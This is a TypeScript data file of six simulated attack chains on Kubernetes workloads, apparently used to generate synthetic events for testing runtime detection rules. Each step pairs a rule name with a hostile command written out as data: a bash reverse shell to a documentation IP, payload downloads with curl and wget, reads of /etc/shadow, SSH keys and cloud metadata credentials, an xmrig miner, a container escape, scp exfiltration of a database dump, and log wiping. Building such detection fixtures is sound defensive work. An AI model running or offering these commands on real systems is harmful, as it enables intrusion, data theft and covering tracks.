import type { Act, AuditAct } from './act';

/** One step of an attack. */
export interface Step {
  /** Seconds after the step before, give or take a fifth. */
  readonly after: number;
  readonly act?: Act;
  readonly audit?: AuditAct;
  /** Workload in which it happens where that is not the first victim's; `node` is the node of the first victim. */
  readonly on?: string;
  /** How often it happens, and the seconds between. */
  readonly times?: number;
  readonly every?: number;
}

export interface Chain {
  readonly id: string;
  readonly title: string;
  readonly story: string;
  readonly cluster: string;
  /** First victim. */
  readonly workload: string;
  readonly steps: readonly Step[];
}

const DROPPED = { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' };
const WEB_SHELL = '/bin/sh -c id';
const INTRUDER = 'intern@acme.example';

export const CHAINS: readonly Chain[] = [
  {
    id: 'web-shell',
    title: 'Web shell to stolen credentials',
    story: 'A request to a web server reads files outside its root, then runs commands; they look for keys and ask for the cloud role.',
    cluster: 'prod-eu',
    workload: 'storefront',
    steps: [
      { after: 0, act: { rule: 'Directory traversal monitored file read', call: 'openat', file: '/etc/passwd', fields: { 'fd.nameraw': '/var/www/html/../../../etc/passwd' } }, times: 3, every: 4 },
      { after: 40, act: { rule: 'Web Server Spawned Shell', run: ['/bin/sh -c id'], call: 'execve' } },
      { after: 9, act: { rule: 'Basic Interactive Reconnaissance', run: ['/bin/sh -c whoami; hostname', '/usr/bin/whoami'], call: 'execve' }, times: 2, every: 7 },
      { after: 15, act: { rule: 'Web Server Spawned Suspicious Child Process', run: ['/usr/bin/curl -s http://198.51.100.66/s.sh -o /tmp/.s'], call: 'execve' } },
      { after: 22, act: { rule: 'Reverse Shell from Web Server', run: ['/bin/bash -c bash -i >& /dev/tcp/198.51.100.66/4444 0>&1'], call: 'dup2', reach: ['198.51.100.66', 4444] } },
      { after: 45, act: { rule: 'Read sensitive file untrusted', run: [WEB_SHELL, '/bin/bash -i', '/bin/cat /etc/shadow'], call: 'openat', file: '/etc/shadow' } },
      { after: 30, act: { rule: 'Search Private Keys or Passwords', run: [WEB_SHELL, '/bin/bash -i', '/usr/bin/find / -name id_rsa -o -name *.pem'], call: 'execve' } },
      { after: 25, act: { rule: 'Find AWS Credentials', run: [WEB_SHELL, '/bin/bash -i', '/bin/grep -r aws_secret_access_key /var/www'], cwd: '/var/www/html', call: 'execve' } },
      { after: 50, act: { rule: 'Contact EC2 Instance Metadata Service From Container', run: [WEB_SHELL, '/bin/bash -i', '/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'], call: 'connect', reach: ['169.254.169.254', 80] }, times: 2, every: 6 },
    ],
  },
  {
    id: 'crypto-miner',
    title: 'Crypto miner in a notebook',
    story: 'An open notebook installs tools, downloads a miner, starts it from memory and plants a cron job.',
    cluster: 'prod-us',
    workload: 'jupyter-data-science',
    steps: [
      { after: 0, act: { rule: 'Terminal shell in container', run: ['/bin/bash -l'], call: 'execve', fields: { 'proc.tty': 34818 } } },
      { after: 35, act: { rule: 'Launch Package Management Process in Container', run: ['/bin/bash -l', '/usr/bin/apt-get install -y curl cron'], call: 'execve' } },
      { after: 50, act: { rule: 'Launch Ingress Remote File Copy Tools in Container', run: ['/bin/bash -l', '/usr/bin/curl -sL http://203.0.113.99/x.tgz -o /dev/shm/x.tgz'], call: 'execve' } },
      { after: 20, act: { rule: 'Execution from /dev/shm', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8'], call: 'execve', file: '/dev/shm/.x/setup', cwd: '/dev/shm/.x' } },
      { after: 8, act: { rule: 'Drop and execute new binary in container', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6f'], call: 'execve', fields: DROPPED } },
      { after: 1, act: { rule: 'Known Cryptominer Process Executed', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6f'], call: 'execve', fields: DROPPED } },
      { after: 1, act: { rule: 'Detect crypto miners using the Stratum protocol', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6f'], call: 'execve', fields: DROPPED }, times: 4, every: 60 },
      { after: 30, act: { rule: 'Network Connection outside Local Subnet', run: ['/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333'], call: 'connect', reach: ['203.0.113.200', 3333] } },
      { after: 40, act: { rule: 'Schedule Cron Jobs', run: ['/bin/bash -l', '/usr/bin/crontab -'], call: 'openat', file: '/var/spool/cron/crontabs/jovyan' } },
    ],
  },
  {
    id: 'container-escape',
    title: 'Escape from a privileged build to its node',
    story: 'A build with all privileges mounts the disk of its node, leaves through a cgroup, and stays there with a key and a kernel module.',
    cluster: 'prod-eu',
    workload: 'build-dind',
    steps: [
      { after: 0, act: { rule: 'Launch Privileged Container', run: [], call: 'container' } },
      { after: 60, act: { rule: 'Mount Launched in Privileged Container', run: ['/bin/sh', '/bin/mount /dev/sda1 /mnt'], call: 'execve' } },
      { after: 12, act: { rule: 'Privileged Container Device Access', run: ['/bin/sh', '/bin/dd if=/dev/sda1 bs=1M count=1'], call: 'openat', file: '/dev/sda1' } },
      { after: 20, act: { rule: 'Container Access to Host Sensitive Paths', run: ['/bin/sh', '/bin/cat /mnt/etc/kubernetes/pki/ca.key'], call: 'openat', file: '/mnt/etc/kubernetes/pki/ca.key' } },
      { after: 18, act: { rule: 'Debugfs Launched in Privileged Container', run: ['/bin/sh', '/sbin/debugfs -w /dev/sda1'], call: 'execve' } },
      { after: 44, act: { rule: 'Detect release_agent File Container Escapes', run: ['/bin/sh', '/bin/sh ./escape.sh'], call: 'openat', file: '/tmp/cgrp/release_agent', fields: { 'thread.cap_effective': 'CAP_SYS_ADMIN CAP_DAC_OVERRIDE CAP_SYS_PTRACE' } } },
      { after: 6, act: { rule: 'Change thread namespace', run: ['/bin/sh', '/usr/bin/nsenter -t 1 -m -u -i -n -p bash'], call: 'setns' } },
      { after: 55, on: 'node', act: { rule: 'Adding ssh keys to authorized_keys', from: 'host', run: ['/bin/sh /cmd', '/bin/bash -c cat /tmp/k >> /root/.ssh/authorized_keys'], call: 'openat', file: '/root/.ssh/authorized_keys' } },
      { after: 35, on: 'node', act: { rule: 'Linux Kernel Module Injection Detected', from: 'host', run: ['/bin/sh /cmd', '/bin/bash -i', '/sbin/insmod ./netfilter_helper.ko'], call: 'finit_module' } },
    ],
  },
  {
    id: 'supply-chain',
    title: 'Poisoned package in a build',
    story: 'Installing a package runs a script that fetches, decodes and starts a program which reads keys and tokens.',
    cluster: 'staging',
    workload: 'payments-api',
    steps: [
      { after: 0, act: { rule: 'Network Tool Executed During NPM Package Install', run: ['/usr/local/bin/npm install', '/bin/sh -c node ./postinstall.js', '/usr/bin/wget -qO /tmp/.p http://198.51.100.140/p'], call: 'execve' } },
      { after: 7, act: { rule: 'Decoding Payload in Container', run: ['/usr/local/bin/npm install', '/bin/sh -c base64 -d /tmp/.p > /tmp/p', '/usr/bin/base64 -d /tmp/.p'], call: 'execve' } },
      { after: 3, act: { rule: 'Set Setuid or Setgid bit', run: ['/usr/local/bin/npm install', '/bin/chmod 4755 /tmp/p'], call: 'fchmodat', fields: { 'evt.arg.filename': '/tmp/p', 'evt.arg.mode': 'S_IXOTH|S_IXGRP|S_IXUSR|S_ISUID' } } },
      { after: 2, act: { rule: 'Drop and execute new binary in container', run: ['/usr/local/bin/npm install', '/bin/sh -c /tmp/p &', '/tmp/p'], call: 'execve', fields: DROPPED } },
      { after: 5, act: { rule: 'Fileless execution via memfd_create', run: ['/usr/local/bin/npm install', '/tmp/p', 'memfd:kworker -d'], call: 'execve', fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD' } } },
      { after: 40, act: { rule: 'Read environment variable from /proc files', run: ['/tmp/p', 'memfd:kworker -d'], call: 'openat', file: '/proc/1/environ' }, times: 2, every: 5 },
      { after: 20, act: { rule: 'Read ssh information', run: ['/tmp/p', 'memfd:kworker -d'], call: 'openat', file: '/root/.ssh/id_ed25519' } },
      { after: 65, act: { rule: 'Unexpected UDP Traffic', run: ['/tmp/p', 'memfd:kworker -d'], call: 'sendto', reach: ['198.51.100.140', 53, 'udp'] }, times: 3, every: 30 },
      { after: 40, act: { rule: 'Modify Shell Configuration File', run: ['/tmp/p', 'memfd:kworker -d'], call: 'openat', file: '/root/.profile' } },
    ],
  },
  {
    id: 'lateral-movement',
    title: 'From one pod through the cluster',
    story: 'A stolen account opens a shell in a pod, uses its token, makes itself an administrator and enters the next pod.',
    cluster: 'prod-us',
    workload: 'payments-api',
    steps: [
      { after: 0, audit: { rule: 'Attach/Exec Pod', user: INTRUDER, fields: { 'ka.target.name': '{pod}', 'ka.target.namespace': 'payments', 'ka.target.resource': 'pods', 'ka.target.subresource': 'exec', 'ka.uri.param[command]': 'bash' } } },
      { after: 1, act: { rule: 'Terminal shell in container', from: 'exec', run: ['/bin/bash'], call: 'execve' } },
      { after: 30, act: { rule: 'Launch Ingress Remote File Copy Tools in Container', from: 'exec', run: ['/bin/bash', '/usr/bin/curl -LO https://dl.k8s.example/kubectl'], call: 'execve' } },
      { after: 16, act: { rule: 'Drop and execute new binary in container', from: 'exec', run: ['/bin/bash', '/tmp/kubectl auth can-i --list'], call: 'execve', fields: DROPPED } },
      { after: 1, act: { rule: 'Kubernetes Client Tool Launched in Container', from: 'exec', run: ['/bin/bash', '/tmp/kubectl auth can-i --list'], call: 'execve', fields: DROPPED }, times: 2, every: 25 },
      { after: 1, act: { rule: 'Contact K8S API Server From Container', from: 'exec', run: ['/bin/bash', '/tmp/kubectl get secrets -A'], call: 'connect', reach: ['172.20.0.1', 443] }, times: 3, every: 12 },
      { after: 2, audit: { rule: 'K8s Secret Get Successfully', user: 'system:serviceaccount:payments:payments-api', fields: { 'ka.target.name': 'vault-unseal', 'ka.target.namespace': 'vault', 'ka.target.resource': 'secrets' } }, times: 2, every: 9 },
      { after: 25, audit: { rule: 'ClusterRole With Pod Exec Created', user: 'system:serviceaccount:payments:payments-api', fields: { 'ka.target.name': 'node-viewer', 'ka.target.resource': 'clusterroles', 'ka.req.role.rules': '[{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}]' } } },
      { after: 12, audit: { rule: 'Attach to cluster-admin Role', user: 'system:serviceaccount:payments:payments-api', fields: { 'ka.req.binding.subjects': '[{"kind":"ServiceAccount","name":"payments-api","namespace":"payments"}]' } } },
      { after: 50, audit: { rule: 'Attach/Exec Pod', user: 'system:serviceaccount:payments:payments-api', fields: { 'ka.target.name': 'vault-0', 'ka.target.namespace': 'vault', 'ka.target.resource': 'pods', 'ka.target.subresource': 'exec', 'ka.uri.param[command]': 'sh' } } },
      { after: 1, on: 'vault', act: { rule: 'Terminal shell in container', from: 'exec', run: ['/bin/sh'], call: 'execve' } },
      { after: 30, on: 'vault', act: { rule: 'Read environment variable from /proc files', from: 'exec', run: ['/bin/sh', '/bin/cat /proc/1/environ'], call: 'openat', file: '/proc/1/environ' } },
    ],
  },
  {
    id: 'exfiltration',
    title: 'A database copied out, and the traces wiped',
    story: 'A query makes the database start a shell; it dumps tables, sends them out by two ways, and clears logs and history.',
    cluster: 'prod-eu',
    workload: 'orders-db',
    steps: [
      { after: 0, act: { rule: 'DB program spawned process', run: ['/bin/sh -c id > /tmp/o'], call: 'execve' } },
      { after: 25, act: { rule: 'DB program spawned process', run: ['/bin/bash -c pg_dump orders | gzip > /tmp/o.gz', '/usr/bin/pg_dump orders'], call: 'execve' } },
      { after: 5, act: { rule: 'Read sensitive file untrusted', run: ['/bin/bash -c cat /etc/shadow', '/bin/cat /etc/shadow'], call: 'openat', file: '/etc/shadow' } },
      { after: 90, act: { rule: 'Launch Remote File Copy Tools in Container', run: ['/bin/bash', '/usr/bin/scp /tmp/o.gz drop@203.0.113.5:/in/'], call: 'execve' } },
      { after: 2, act: { rule: 'Network Connection outside Local Subnet', run: ['/bin/bash', '/usr/bin/scp /tmp/o.gz drop@203.0.113.5:/in/', '/usr/bin/ssh drop@203.0.113.5'], call: 'connect', reach: ['203.0.113.5', 22] } },
      { after: 1, act: { rule: 'Disallowed SSH Connection Non Standard Port', run: ['/bin/bash', '/usr/bin/scp -P 8443 /tmp/o.gz drop@203.0.113.5:/in/', '/usr/bin/ssh -p 8443 drop@203.0.113.5'], call: 'connect', reach: ['203.0.113.5', 8443] } },
      { after: 60, act: { rule: 'Exfiltrating Artifacts via Kubernetes Control Plane', from: 'exec', run: ['/bin/tar cf - /tmp/o.gz'], call: 'openat', file: '/tmp/o.gz' } },
      { after: 80, act: { rule: 'Clear Log Activities', run: ['/bin/bash', '/usr/bin/truncate -s 0 /var/log/postgresql/postgresql-16-main.log'], call: 'openat', file: '/var/log/postgresql/postgresql-16-main.log' } },
      { after: 9, act: { rule: 'Remove Bulk Data from Disk', run: ['/bin/bash', '/usr/bin/shred -u /tmp/o.gz'], call: 'execve' } },
      { after: 7, act: { rule: 'Delete or rename shell history', run: ['/bin/bash', '/bin/rm -f /var/lib/postgresql/.bash_history'], call: 'unlinkat', fields: { 'evt.arg.name': '/var/lib/postgresql/.bash_history' } } },
    ],
  },
];
